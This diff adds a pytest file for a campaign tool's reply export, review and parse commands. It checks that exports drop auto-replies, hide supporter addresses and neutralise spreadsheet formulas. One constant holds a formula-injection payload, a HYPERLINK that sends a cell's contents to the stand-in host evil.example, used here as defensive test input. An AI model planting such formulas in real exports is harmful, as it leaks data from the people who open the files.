@@ -1,0 +1,125 @@
+"""`campaign replies export | review | parse` on stored, parsed replies."""
+
+from __future__ import annotations
+
+import csv
+import io
+from pathlib import Path
+from typing import Any
+
+import pytest
+from replies_fixtures import NOW, Seeded, parse_fields, reply_address, seed, settings_for
+from sqlalchemy import Engine, select
+from typer.testing import CliRunner
+
+from sender.cli import app
+from sender.config import Settings, reset_settings
+from sender.db import session_scope
+from sender.inbound import parse_stored_reply
+from sender.models import Reply
+from sender.vocabulary import ReplyStatus
+
+FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Free Jani")'
+
+
+@pytest.fixture
+def world(any_engine: Engine, env: pytest.MonkeyPatch) -> tuple[Engine, Settings, Seeded]:
+    settings = settings_for(any_engine)
+    env.setenv("DATABASE_URL", settings.database_url)
+    env.setenv("SECRET_KEY", settings.secret_key)
+    env.setenv("INBOUND_DOMAIN", settings.inbound_domain)
+    reset_settings()
+    return any_engine, settings, seed(any_engine, settings)
+
+
+def receive(engine: Engine, settings: Settings, parse: bool = True, **fields: Any) -> int:
+    with session_scope(engine) as session:
+        reply = Reply(raw_form={"fields": parse_fields(**fields), "files": []})
+        session.add(reply)
+        session.flush()
+        reply_id = reply.id
+    if parse:
+        parse_stored_reply(engine, settings, reply_id, NOW)
+    return reply_id
+
+
+def fill(engine: Engine, settings: Settings, seeded: Seeded) -> dict[str, int]:
+    to = reply_address(seeded, "en")
+    return {
+        "warm": receive(engine, settings, sender="ana@example.com", to=to, text="Fuerza, Jani"),
+        "formula": receive(engine, settings, sender="bob@example.org", to=to, text=FORMULA),
+        "away": receive(
+            engine,
+            settings,
+            sender="marie@example.fr",
+            to=to,
+            subject="Réponse automatique : absente",
+            text="Je suis absente jusqu'au 4 janvier.",
+        ),
+        "stranger": receive(engine, settings, sender="who@elsewhere.example", to=to, text="Hello"),
+    }
+
+
+def test_export_leaves_out_auto_replies_and_defuses_formulas(
+    world: tuple[Engine, Settings, Seeded], runner: CliRunner, tmp_path: Path
+) -> None:
+    engine, settings, seeded = world
+    ids = fill(engine, settings, seeded)
+    out = tmp_path / "jani.csv"
+    result = runner.invoke(app, ["replies", "export", "--case", "jani-silva", "--out", str(out)])
+    assert result.exit_code == 0, result.output
+    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
+    assert [int(row["reply_id"]) for row in rows] == [ids["warm"], ids["formula"]]
+    assert rows[0]["message"] == "Fuerza, Jani"
+    assert rows[0]["first_name"] == "Ana"
+    assert rows[1]["message"] == "'" + FORMULA
+    assert "absente" not in out.read_text(encoding="utf-8")
+    assert "@" not in out.read_text(encoding="utf-8")  # no supporter addresses
+
+
+def test_export_to_stdout_and_unknown_case(
+    world: tuple[Engine, Settings, Seeded], runner: CliRunner
+) -> None:
+    engine, settings, seeded = world
+    fill(engine, settings, seeded)
+    result = runner.invoke(app, ["replies", "export", "--case", "jani-silva"])
+    assert result.exit_code == 0
+    assert (
+        result.output.splitlines()[0] == "reply_id,received_at,language,first_name,country,message"
+    )
+    result = runner.invoke(app, ["replies", "export", "--case", "nobody"])
+    assert result.exit_code != 0
+    assert "no case with slug 'nobody'" in str(result.exception)
+
+
+def test_review_lists_what_needs_a_person(
+    world: tuple[Engine, Settings, Seeded], runner: CliRunner
+) -> None:
+    engine, settings, seeded = world
+    fill(engine, settings, seeded)
+    result = runner.invoke(app, ["replies", "review"], env={"COLUMNS": "250"})
+    assert result.exit_code == 0, result.output
+    assert "who@elsewhere.example" in result.output
+    assert "no supporter with the sender's address" in result.output
+    assert "ana@example.com" not in result.output
+    assert "marie@example.fr" not in result.output
+
+
+def test_parse_finishes_replies_a_dead_worker_left(
+    world: tuple[Engine, Settings, Seeded], runner: CliRunner
+) -> None:
+    engine, settings, seeded = world
+    left = receive(
+        engine,
+        settings,
+        parse=False,
+        sender="bob@example.org",
+        to=reply_address(seeded, "en"),
+        text="Still with you",
+    )
+    result = runner.invoke(app, ["replies", "parse"])
+    assert result.exit_code == 0, result.output
+    assert "1 replies parsed: 1 matched" in result.output
+    with session_scope(engine) as session:
+        assert session.scalar(select(Reply.status).where(Reply.id == left)) == ReplyStatus.MATCHED
+    assert "0 replies parsed" in runner.invoke(app, ["replies", "parse"]).output
